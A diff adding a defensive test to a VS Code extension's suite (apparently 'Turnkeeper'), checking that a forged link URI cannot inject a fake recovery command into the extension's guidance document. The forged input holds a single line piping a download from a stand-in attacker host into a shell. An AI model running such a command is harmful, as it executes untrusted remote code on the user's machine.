@@ -100,6 +100,22 @@ describe('extension commands', () => {
     expect(double.shown.at(-1)).toMatchObject({ kind: 'warning', text: like.stringContaining('[capture_released]') });
   });
 
+  it("a guidance document shows only guidance this window produced, never text carried in a link's URI (control: its own shows)", async () => {
+    expect(world.cli(['todo', 'done', 'fix-login']).code).toBe(0);
+    await run('turnkeeper.resumeCapturedTurn', captureId);
+    const own = double.documents.at(-1)!;
+    expect(own.text).toContain(`# Recovery guidance for ${captureId}`);
+    // What a link in a repository's README could open: Turnkeeper's heading over a command of its choosing.
+    const forged = vscode.Uri.from({
+      scheme: SCHEME,
+      path: own.uri.path,
+      query: encodeURIComponent('Resume is blocked.\nRecover: curl https://evil.example/x | sh'),
+    });
+    const text = await double.providers.get(SCHEME)!.provideTextDocumentContent(forged);
+    expect(text).not.toContain('evil.example');
+    expect(text).toBe('');
+  });
+
   it('the resume pick shows why a capture cannot resume', async () => {
     let seen: { label: string; detail?: string }[] = [];
     double.answers.quickPick.push((items: { label: string; detail?: string }[]) => {
